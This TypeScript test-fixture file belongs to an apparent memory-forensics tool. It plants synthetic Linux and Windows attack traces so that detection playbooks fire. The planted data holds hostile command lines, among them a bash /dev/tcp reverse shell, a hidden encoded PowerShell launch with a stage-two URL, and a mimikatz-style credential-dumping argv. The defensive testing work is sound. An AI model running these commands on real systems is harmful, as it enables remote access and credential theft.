// Test data for hunting: catalog rows built by hand from the dev dump's ground truth (captured from
// /proc inside the guest — independent of memq's extractors), plus hand-made malicious and clean
// variants for Linux and Windows, written as Parquet in the store layout
// <store>/<table>/project=<p>/machine=<m>/snapshot=<s>/part-0.parquet (lib/store/store.ts).
import * as fs from 'node:fs';
import * as path from 'node:path';
import { emptyRows, tableNames, type Row, type Rows, type TableName } from '../../lib/model';
import { ParquetWriter } from '../../lib/store/parquet-writer';
import { tableFileRelative } from '../../lib/store/store';
import { groundTruth, type GtProcess } from '../support/dumps';

export interface SnapshotRef {
  project: string;
  machine: string;
  snapshot: string;
}

let fakeAddr = 0xffff888000100000n;
const nextAddr = () => (fakeAddr += 0x1000n);

export function processRow(p: Partial<Row<'process'>> & { process_id: number; name: string }): Row<'process'> {
  const argv = p.argv ?? [p.name];
  return {
    parent_process_id: 1,
    argv,
    command_line: argv.join(' '),
    exe_path: null,
    exe_deleted: false,
    cwd: null,
    uid: null,
    gid: null,
    euid: null,
    state: 'S',
    start_time_ns: null,
    create_time: null,
    exit_time: null,
    is_kernel_thread: false,
    thread_count: 1,
    session_id: null,
    is_wow64: null,
    object_address: nextAddr(),
    in_process_list: true,
    flag_kernel_thread_name: false,
    flag_deleted_exe: false,
    flag_suspicious_path: false,
    flag_wx_memory: false,
    flag_unusual_parent: false,
    ns_pid: null,
    pid_ns: null,
    net_ns: null,
    mnt_ns: null,
    uts_ns: null,
    ipc_ns: null,
    user_ns: null,
    cgroup_ns: null,
    time_ns: null,
    cgroup_path: null,
    container_id: null,
    in_pid_hash: null, cred_address: null, flag_shared_cred: null, flag_root_from_user: null,
    ...p,
  };
}

export function vmaRow(p: Partial<Row<'vma'>> & { process_id: number; start: bigint; end: bigint; protection: string }): Row<'vma'> {
  return {
    size: Number(p.end - p.start),
    flags: 0,
    page_offset: 0,
    file_name: null,
    inode: null,
    kind: 'anon',
    is_private: p.protection.endsWith('p'),
    is_writable: p.protection[1] === 'w',
    is_executable: p.protection[2] === 'x',
    has_pe_header: null,
    object_address: nextAddr(),
    ...p,
  };
}

export function socketRow(p: Partial<Row<'socket'>> & { process_id: number; local_address: string }): Row<'socket'> {
  return {
    fd: 3,
    family: 'AF_INET',
    type: 'STREAM',
    protocol: 'TCP',
    local_port: null,
    remote_address: null,
    remote_port: null,
    state: 'ESTABLISHED',
    inode: null,
    object_address: nextAddr(),
    ...p,
  };
}

const vmaKind = (p: string) =>
  p === '' ? 'anon' : p === '[heap]' ? 'heap' : p.startsWith('[stack') ? 'stack' : p === '[vdso]' ? 'vdso' : p === '[vvar]' ? 'vvar' : 'file';

interface GtMap {
  start: string;
  end: string;
  perms: string;
  offset: string;
  inode: number;
  path: string;
}
interface GtSock {
  local_addr: string;
  local_port: number;
  remote_addr: string;
  remote_port: number;
  state: string | number;
  inode: number;
  owners: { pid: number; fd: number }[];
}

/** Catalog rows of the dev dump as the guest's /proc saw it (ground-truth.json). */
export function devRows(): Rows {
  const gt = groundTruth('6.1');
  const rows = emptyRows();
  for (const p of gt.processes as (GtProcess & { maps?: GtMap[]; environ?: string[]; fds?: Record<string, string> })[]) {
    const deleted = (p.exe ?? '').endsWith(' (deleted)');
    rows.process.push(
      processRow({
        process_id: p.pid,
        parent_process_id: p.ppid,
        name: p.task_comm,
        argv: p.cmdline,
        exe_path: p.exe ? p.exe.replace(/ \(deleted\)$/, '') : null,
        exe_deleted: deleted,
        cwd: p.cwd ?? null,
        uid: p.uid,
        gid: p.gid,
        euid: p.euid,
        state: p.state,
        start_time_ns: p.start_time * 10_000_000,
        is_kernel_thread: p.is_kernel_thread,
      }),
    );
    rows.thread.push({ process_id: p.pid, thread_id: p.pid, name: p.task_comm, state: p.state, start_address: null, create_time: null, object_address: nextAddr() });
    const libs = new Map<string, bigint>();
    for (const m of p.maps ?? []) {
      const start = BigInt(m.start);
      rows.vma.push(
        vmaRow({
          process_id: p.pid,
          start,
          end: BigInt(m.end),
          protection: m.perms,
          page_offset: Number(BigInt(m.offset)),
          file_name: m.path === '' ? null : m.path,
          inode: m.inode || null,
          kind: vmaKind(m.path),
        }),
      );
      if (m.path.startsWith('/') && !libs.has(m.path)) libs.set(m.path, start);
    }
    for (const [lib, base] of libs) {
      rows.loaded_library.push({ process_id: p.pid, base, size: 4096, path: lib, name: path.basename(lib), in_load_list: true, in_vad: true });
    }
    for (const e of p.environ ?? []) {
      const i = e.indexOf('=');
      rows.env_var.push({ process_id: p.pid, name: e.slice(0, i), value: e.slice(i + 1) });
    }
    for (const [fd, target] of Object.entries(p.fds ?? {})) {
      const sock = /^socket:\[(\d+)\]$/.exec(target);
      rows.open_file.push({
        process_id: p.pid,
        fd: Number(fd),
        path: target,
        kind: sock ? 'socket' : target.startsWith('/dev/') ? 'char' : 'file',
        inode: sock ? Number(sock[1]) : null,
        flags: null,
      });
    }
  }
  // indicators: URLs/IPs the ground truth says sit in process memory — the argv strings (on the
  // stack) and the shell history (in the shell's heap); written by hand, not by memq's scanner
  const urlsIn = (text: string) => text.match(/stratum\+tcp:\/\/[0-9.:]+/g) ?? [];
  let at = 0x7ffd00000000n;
  const indicator = (pid: number, value: string) => {
    rows.indicator.push({ process_id: pid, kind: 'url', value, address: (at += 0x100n), region: null });
    const ip = /\/\/([0-9.]+)/.exec(value)?.[1];
    if (ip) rows.indicator.push({ process_id: pid, kind: 'ipv4', value: ip, address: at + 14n, region: null });
  };
  for (const p of gt.processes) for (const u of urlsIn(p.cmdline.join(' '))) indicator(p.pid, u);
  const hist = gt.shell_history as { pid: number; entries: { timestamp: number; command: string }[] };
  for (const e of hist.entries) for (const u of urlsIn(e.command)) indicator(hist.pid, u);

  const net = gt.net as Record<string, GtSock[]>;
  for (const [table, family, type, protocol] of [
    ['tcp', 'AF_INET', 'STREAM', 'TCP'],
    ['tcp6', 'AF_INET6', 'STREAM', 'TCP'],
    ['udp', 'AF_INET', 'DGRAM', 'UDP'],
    ['udp6', 'AF_INET6', 'DGRAM', 'UDP'],
  ] as const) {
    for (const s of net[table] ?? []) {
      for (const o of s.owners) {
        rows.socket.push(
          socketRow({
            process_id: o.pid,
            fd: o.fd,
            family,
            type,
            protocol,
            local_address: s.local_addr,
            local_port: s.local_port,
            remote_address: s.remote_addr,
            remote_port: s.remote_port,
            state: typeof s.state === 'string' ? s.state : 'CLOSE',
            inode: s.inode,
          }),
        );
      }
    }
  }
  for (const m of gt.modules) {
    rows.kernel_module.push({
      name: m.name,
      base: BigInt(m.address ?? '0'),
      size: m.size,
      path: null,
      state: (m.state ?? 'live').toLowerCase(),
      in_module_list: true,
      hidden: false,
      object_address: null,
      in_mod_tree: null,
      in_sysfs: null,
    });
  }
  // a few syscall entries, none hooked (the dump's table is intact)
  for (let i = 0; i < 8; i++) {
    rows.syscall.push({ table_name: 'x64', index: i, handler: 0xffffffff9c700000n + BigInt(i * 0x40), symbol: `sys_${i}`, module: 'kernel', hooked: false });
  }
  const dmesg = (gt.raw.dmesg ?? '').split('\n').filter(Boolean);
  dmesg.forEach((line, i) => {
    const m = /^\[\s*([0-9.]+)\]\s?(.*)$/.exec(line);
    rows.kernel_log.push({
      sequence: i,
      timestamp_ns: m ? Math.round(Number(m[1]) * 1e9) : 0,
      level: 6,
      facility: 0,
      message: m ? m[2] : line,
    });
  });
  // bash history as ground truth recorded it (the shell's HIST_ENTRY records in memory)
  for (const e of hist.entries) {
    rows.shell_history.push({ process_id: hist.pid, command: e.command, timestamp: new Date(e.timestamp * 1000), entry_address: nextAddr() });
  }
  return rows;
}

export function gtPid(role: string): number {
  const pid = groundTruth('6.1').roles[role];
  if (pid === undefined) throw new Error(`no role ${role} in ground truth`);
  return pid;
}

/** Writes every table of `rows` (empty tables too) into the store layout. */
export async function writeSnapshot(store: string, ref: SnapshotRef, rows: Rows, writer?: ParquetWriter): Promise<void> {
  const w = writer ?? (await ParquetWriter.create());
  try {
    for (const t of tableNames) {
      const file = path.join(store, tableFileRelative(t as TableName, ref));
      fs.mkdirSync(path.dirname(file), { recursive: true });
      await w.write(t as TableName, rows[t] as unknown as Record<string, unknown>[], file);
    }
  } finally {
    if (!writer) w.close();
  }
}

export function cloneRows(r: Rows): Rows {
  const out = emptyRows();
  for (const t of tableNames) (out[t] as unknown[]) = (r[t] as unknown[]).map((x) => ({ ...(x as object) }));
  return out;
}

// ---- hand-made behaviour the dev dump does not have --------------------------------------------

/**
 * The dev rows plus planted Linux attacks, each on its own pid, so every Linux playbook that is
 * silent on the dev dump has something to fire on. `planted` says which playbook each plant is for.
 */
export function linuxTampered(): { rows: Rows; planted: Record<string, string[]> } {
  const rows = cloneRows(devRows());
  const P = rows.process;
  P.push(processRow({ process_id: 900, name: 'bash', argv: ['bash', '-i'], exe_path: '/usr/bin/bash', cwd: '/' }));
  rows.socket.push(socketRow({ process_id: 900, fd: 0, local_address: '10.0.2.15', local_port: 51000, remote_address: '203.0.113.5', remote_port: 443 }));
  rows.open_file.push({ process_id: 900, fd: 0, path: 'socket:[7777]', kind: 'socket', inode: 7777, flags: null });
  P.push(processRow({ process_id: 901, name: 'sh', argv: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.5/8443 0>&1'], exe_path: '/bin/dash' }));
  P.push(processRow({ process_id: 902, name: 'sshd', argv: ['/usr/sbin/sshd', '-D'], exe_path: '/usr/sbin/sshd' }));
  rows.env_var.push({ process_id: 902, name: 'LD_PRELOAD', value: '/lib/x86_64-linux-gnu/libhide.so' });
  P.push(processRow({ process_id: 903, parent_process_id: 900, name: 'agetty', argv: ['/sbin/agetty', 'ttyS0'], exe_path: '/usr/sbin/agetty' }));
  P.push(processRow({ process_id: 904, name: 'python3', argv: ['python3', 'loader.py'], exe_path: '/usr/bin/python3.11' }));
  rows.vma.push(vmaRow({ process_id: 904, start: 0x7f0000000000n, end: 0x7f0000021000n, protection: 'rwxp', kind: 'anon' }));
  rows.env_var.push({ process_id: 904, name: 'PAYLOAD_SHA256', value: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' });
  P.push(processRow({ process_id: 905, name: 'sleep', argv: ['sleep', '1000'], exe_path: '/usr/bin/sleep' }));
  rows.vma.push(vmaRow({ process_id: 905, start: 0x7f1000000000n, end: 0x7f1000004000n, protection: 'r-xp', kind: 'file', file_name: '/memfd:payload (deleted)' }));
  P.push(processRow({ process_id: 906, name: 'hideme', argv: ['hideme'], exe_path: '/usr/bin/hideme', in_process_list: false }));
  P.push(processRow({ process_id: 907, name: 'bash', argv: ['bash'], exe_path: '/usr/bin/bash' }));
  rows.env_var.push({ process_id: 907, name: 'HISTFILE', value: '/dev/null' });
  P.push(processRow({ process_id: 908, name: 'sshd', parent_process_id: 907, argv: ['sshd'], exe_path: '/usr/sbin/sshd' }));
  rows.kernel_module.push({ name: 'diamorphine', base: 0xffffffffc0700000n, size: 16384, path: null, state: 'live', in_module_list: false, hidden: true, object_address: null, in_mod_tree: null, in_sysfs: null });
  rows.syscall.push(
    { table_name: 'x64', index: 62, handler: 0xffffffffc0700100n, symbol: null, module: 'diamorphine', hooked: true },
    { table_name: 'x64_sys_call', index: 217, handler: 0xffffffffc0700200n, symbol: null, module: 'diamorphine', hooked: true },
  );
  // hooks of the hidden module (kernel_hook), next to a legitimate kernel netfilter hook that must not fire
  const hook = (h: Partial<Row<'kernel_hook'>> & { kind: string; target_symbol: string; handler: bigint }): Row<'kernel_hook'> => ({
    target_address: null, target_offset: null, location: null, object_address: null, handler_symbol: null, module: 'diamorphine', module_hidden: true,
    redirect: null, family: null, hooknum: null, hook_point: null, priority: null, flags: null, detail: null, suspicious: true, reason: 'handler in module diamorphine, which is hidden from the module list', ...h,
  });
  rows.kernel_hook.push(
    hook({ kind: 'ftrace', target_symbol: '__x64_sys_kill', handler: 0xffffffffc0700300n, flags: 0x1857 }),
    hook({ kind: 'netfilter', target_symbol: 'init_net', handler: 0xffffffffc0700400n, family: 'ipv4', hooknum: 0, hook_point: 'PRE_ROUTING', priority: -2147483648 }),
    hook({ kind: 'keyboard_notifier', target_symbol: 'keyboard_notifier_list', handler: 0xffffffffc0700500n, priority: 0 }),
    hook({ kind: 'idt', target_symbol: 'idt_table', handler: 0xffffffffc0700600n, hooknum: 3, hook_point: 'vector 3' }),
    hook({ kind: 'netfilter', target_symbol: 'init_net', handler: 0xffffffff81c98190n, handler_symbol: 'apparmor_ip_postroute', module: 'kernel', module_hidden: false, family: 'ipv4', hooknum: 4, hook_point: 'POST_ROUTING', priority: -225, suspicious: false, reason: null }),
  );
  // #16 rootkit views: eBPF hooks, LKM view mismatch, credential anomalies, a PID detached from the IDR
  P.push(processRow({ process_id: 909, name: 'ebpfkit', argv: ['ebpfkit'], exe_path: '/opt/ebpfkit' }));
  rows.bpf_program.push(bpfProgramRow({ id: 7, name: 'kp_getdents', type: 'kprobe', attach_target: 'kprobes:__x64_sys_getdents64', process_id: 909, fd: 5 }));
  P.push(processRow({ process_id: 910, name: 'bpfdoor', argv: ['/usr/sbin/console-kit-daemon'], exe_path: '/usr/sbin/console-kit-daemon' }));
  rows.bpf_program.push(bpfProgramRow({ id: 8, name: '', type: 'socket_filter', attach_target: 'socket:pid 910 fd 3', process_id: 910, fd: 4 }));
  rows.kernel_module.push({ name: 'reptile', base: 0xffffffffc0710000n, size: 8192, path: null, state: 'live', in_module_list: true, hidden: false, object_address: null, in_mod_tree: true, in_sysfs: false });
  P.push(processRow({ process_id: 911, name: 'rkshell', argv: ['rkshell'], exe_path: '/usr/bin/rkshell', uid: 0, euid: 0, flag_shared_cred: true }));
  P.push(processRow({ process_id: 912, parent_process_id: 900, name: 'sh', argv: ['sh'], exe_path: '/bin/dash', uid: 0, euid: 0, flag_root_from_user: true }));
  P.push(processRow({ process_id: 913, name: 'unhashed', argv: ['unhashed'], exe_path: '/usr/bin/unhashed', in_pid_hash: false }));
  const seq = rows.kernel_log.length;
  rows.kernel_log.push(
    { sequence: seq, timestamp_ns: 9e11, level: 4, facility: 0, message: 'diamorphine: loading out-of-tree module taints kernel.' },
    { sequence: seq + 1, timestamp_ns: 9e11, level: 4, facility: 0, message: 'diamorphine: module verification failed: signature and/or required key missing - tainting kernel' },
  );
  // a Kubernetes pod started with hostNetwork/hostPID (its container shares the host's pid and net
  // namespaces) by a runtime that chroot'ed instead of pivot_root'ing (the host's mounts stay reachable)
  const ctr = 'c0ffee'.padEnd(64, '0');
  P.push(processRow({ process_id: 914, name: 'kube-proxy', argv: ['kube-proxy'], exe_path: '/usr/local/bin/kube-proxy', container_id: ctr, ns_pid: 914 }));
  rows.container.push({
    container_id: ctr, runtime: 'containerd', cgroup_path: `/kubepods.slice/cri-containerd-${ctr}.scope`, pod_uid: null, pod_name: null, qos_class: 'guaranteed',
    hostname: 'node-1', init_process_id: 914, process_count: 1, rootfs: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${ctr}/rootfs`, mounts_outside_rootfs: 14, pid_ns: 4026531836, net_ns: 4026531840, mnt_ns: 4026532300, uts_ns: 4026531838,
    ipc_ns: 4026532301, user_ns: 4026531837, cgroup_ns: 4026531835,
    shares_host_pid: true, shares_host_net: true, shares_host_mnt: false, shares_host_uts: true, shares_host_ipc: false, shares_host_user: true,
  });
  return {
    rows,
    planted: {
      'linux-container-host-namespace': [ctr],
      'linux-container-host-filesystem': [ctr],
      'linux-reverse-shell': ['900'],
      'linux-bash-dev-tcp': ['901'],
      'linux-ld-preload': ['902'],
      'linux-unusual-parent-getty-sshd': ['903', '908'],
      'wx-anonymous-memory': ['904'],
      'linux-memfd-execution': ['905'],
      'hidden-process': ['906', '913'],
      'linux-ebpf-kernel-probe': ['909'],
      'linux-ebpf-socket-filter': ['910'],
      'linux-module-view-mismatch': ['reptile'],
      'linux-shared-credentials': ['911'],
      'linux-root-under-user': ['912'],
      'linux-history-tampering': ['907'],
      'hidden-kernel-module': ['diamorphine'],
      'linux-syscall-hook': ['x64:62', 'x64_sys_call:217'],
      'linux-unsigned-module-taint': [String(seq), String(seq + 1)],
      'linux-ftrace-kprobe-hook': ['ftrace:__x64_sys_kill'],
      'linux-netfilter-hook': ['netfilter:init_net'],
      'linux-keylogger-hook': ['keyboard_notifier:keyboard_notifier_list'],
      'linux-idt-hook': ['idt:idt_table'],
    },
  };
}

const SYS32 = 'C:\\Windows\\System32\\';

/** A small, clean Windows 10 process set (names/paths/parents as on a stock install). */
export function windowsClean(): Rows {
  const rows = emptyRows();
  const w = (process_id: number, parent_process_id: number, name: string, exe_path: string | null, cmd?: string) =>
    rows.process.push(
      processRow({
        process_id,
        parent_process_id,
        name,
        exe_path,
        argv: (cmd ?? exe_path ?? name).split(' '),
        command_line: cmd ?? exe_path ?? name,
        session_id: 0,
        is_wow64: false,
        state: 'running',
        is_kernel_thread: process_id === 4,
      }),
    );
  w(4, 0, 'System', null);
  w(300, 4, 'smss.exe', '\\SystemRoot\\System32\\smss.exe');
  w(400, 380, 'csrss.exe', SYS32 + 'csrss.exe', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768');
  w(480, 380, 'wininit.exe', SYS32 + 'wininit.exe');
  w(600, 480, 'services.exe', SYS32 + 'services.exe');
  w(620, 480, 'lsass.exe', SYS32 + 'lsass.exe');
  w(700, 600, 'svchost.exe', SYS32 + 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p');
  w(1200, 1180, 'explorer.exe', 'C:\\Windows\\explorer.exe');
  w(1500, 1200, 'WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE');
  w(1600, 1200, 'powershell.exe', SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1');
  w(1700, 1200, 'rundll32.exe', SYS32 + 'rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL');
  for (const p of rows.process) {
    if (!p.exe_path) continue;
    rows.vma.push(vmaRow({ process_id: p.process_id, start: 0x7ff600000000n, end: 0x7ff600100000n, protection: 'r-xp', kind: 'image', file_name: p.exe_path, has_pe_header: true, is_private: false }));
    rows.vma.push(vmaRow({ process_id: p.process_id, start: 0x1a0000n, end: 0x1b0000n, protection: 'rw-p', kind: 'private', has_pe_header: false }));
    rows.loaded_library.push({ process_id: p.process_id, base: 0x7ffb00000000n, size: 0x1f0000, path: SYS32 + 'ntdll.dll', name: 'ntdll.dll', in_load_list: true, in_vad: true });
  }
  rows.socket.push(
    socketRow({ process_id: 700, local_address: '0.0.0.0', local_port: 135, state: 'LISTEN' }),
    socketRow({ process_id: 4, local_address: '0.0.0.0', local_port: 445, state: 'LISTEN' }),
    socketRow({ process_id: 620, local_address: '0.0.0.0', local_port: 49664, state: 'LISTEN' }),
  );
  rows.kernel_module.push(
    { name: 'ntoskrnl.exe', base: 0xfffff80000000000n, size: 0xa00000, path: '\\SystemRoot\\system32\\ntoskrnl.exe', state: null, in_module_list: true, hidden: false, object_address: null, in_mod_tree: null, in_sysfs: null },
    { name: 'tcpip.sys', base: 0xfffff80001000000n, size: 0x300000, path: '\\SystemRoot\\System32\\drivers\\tcpip.sys', state: null, in_module_list: true, hidden: false, object_address: null, in_mod_tree: null, in_sysfs: null },
  );
  for (let i = 0; i < 8; i++) rows.syscall.push({ table_name: 'ssdt', index: i, handler: 0xfffff80000100000n + BigInt(i * 0x20), symbol: `Nt${i}`, module: 'ntoskrnl.exe', hooked: false });
  return rows;
}

/** windowsClean() plus planted Windows attacks; `planted` maps playbook → pids/keys expected to fire. */
export function windowsMalicious(): { rows: Rows; planted: Record<string, string[]> } {
  const rows = windowsClean();
  const add = (p: Partial<Row<'process'>> & { process_id: number; name: string; command_line: string }) =>
    rows.process.push(processRow({ argv: p.command_line.split(' '), state: 'running', ...p }));
  add({ process_id: 2001, parent_process_id: 1500, name: 'powershell.exe', exe_path: SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe',
    command_line: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' });
  rows.socket.push(socketRow({ process_id: 2001, local_address: '10.0.0.5', local_port: 50123, remote_address: '198.51.100.7', remote_port: 4444 }));
  rows.indicator.push(
    { process_id: 2001, kind: 'url', value: 'https://cdn.badguy.ru/stage2.ps1', address: 0x1f0000n, region: 'private' },
    { process_id: 2001, kind: 'domain', value: 'cdn.badguy.ru', address: 0x1f0008n, region: 'private' },
  );
  add({ process_id: 2002, parent_process_id: 1200, name: 'wscript.exe', exe_path: SYS32 + 'wscript.exe', command_line: 'wscript.exe C:\\Users\\bob\\Downloads\\invoice.js' });
  add({ process_id: 2003, parent_process_id: 2002, name: 'rundll32.exe', exe_path: SYS32 + 'rundll32.exe', command_line: 'rundll32.exe C:\\Users\\Public\\evil.dll,Start' });
  add({ process_id: 2004, parent_process_id: 1200, name: 'svchost.exe', exe_path: 'C:\\Users\\Public\\svchost.exe', command_line: 'C:\\Users\\Public\\svchost.exe' });
  add({ process_id: 2005, parent_process_id: 1200, name: 'lsass.exe', exe_path: SYS32 + 'lsass.exe', command_line: SYS32 + 'lsass.exe' });
  add({ process_id: 2006, parent_process_id: 1200, name: 'notepad.exe', exe_path: SYS32 + 'notepad.exe', command_line: 'notepad.exe' });
  rows.vma.push(vmaRow({ process_id: 2006, start: 0x2a0000n, end: 0x2c0000n, protection: 'rwxp', kind: 'private', has_pe_header: true }));
  rows.loaded_library.push({ process_id: 1200, base: 0x10000000n, size: 0x20000, path: 'C:\\Users\\bob\\AppData\\Roaming\\hook.dll', name: 'hook.dll', in_load_list: false, in_vad: true });
  add({ process_id: 2008, parent_process_id: 1200, name: 'm.exe', exe_path: 'C:\\Users\\bob\\AppData\\Local\\Temp\\m.exe',
    command_line: 'm.exe privilege::debug sekurlsa::logonpasswords exit' });
  add({ process_id: 2009, parent_process_id: 1200, name: 'ghost.exe', exe_path: 'C:\\Windows\\ghost.exe', command_line: 'ghost.exe', in_process_list: false });
  rows.syscall.push({ table_name: 'ssdt', index: 0x55, handler: 0xfffff80009990000n, symbol: null, module: 'rootkit.sys', hooked: true });
  rows.kernel_module.push({ name: 'rootkit.sys', base: 0xfffff80009990000n, size: 0x8000, path: null, state: null, in_module_list: false, hidden: true, object_address: null, in_mod_tree: null, in_sysfs: null });
  return {
    rows,
    planted: {
      'windows-office-spawns-shell': ['2001'],
      'windows-encoded-powershell': ['2001'],
      'suspicious-port-connection': ['2001:50123'],
      'windows-lolbin-suspicious-parent': ['2003'],
      'windows-system-binary-wrong-path': ['2004'],
      'windows-system-process-unusual-parent': ['2004', '2005'],
      'windows-exec-from-user-writable': ['2004', '2008'],
      'windows-private-rwx-pe': ['2006'],
      'wx-anonymous-memory': ['2006'],
      'windows-unlinked-dll': ['1200'],
      'windows-credential-dumping-argv': ['2008'],
      'hidden-process': ['2009'],
      'windows-ssdt-hook': ['ssdt:85'],
      'hidden-kernel-module': ['rootkit.sys'],
    },
  };
}

/** Row → the identity tests talk about: pid, pid:port for sockets, module name, table:index, log sequence. */
export function bpfProgramRow(p: Partial<Row<'bpf_program'>> & { id: number; name: string; type: string }): Row<'bpf_program'> {
  return {
    tag: '0123456789abcdef',
    attach_type: null,
    attach_target: null,
    map_ids: [],
    load_time_ns: 9e9,
    created_by_uid: 0,
    jited: true,
    jited_address: 0xffffffffc0020000n,
    jited_size: 64,
    xlated_size: 96,
    gpl_compatible: true,
    process_id: null,
    fd: null,
    object_address: nextAddr(),
    ...p,
  };
}

export function hitKey(r: Record<string, unknown>): string {
  if ('sequence' in r) return String(r.sequence);
  if ('table_name' in r && 'index' in r) return `${r.table_name}:${r.index}`;
  if ('local_port' in r) return `${r.process_id}:${r.local_port}`;
  if ('container_id' in r && 'runtime' in r) return String(r.container_id);
  if ('kind' in r && 'handler_symbol' in r) return `${r.kind}:${r.target_symbol}`; // kernel_hook
  if ('process_id' in r) return String(r.process_id);
  return String(r.name);
}
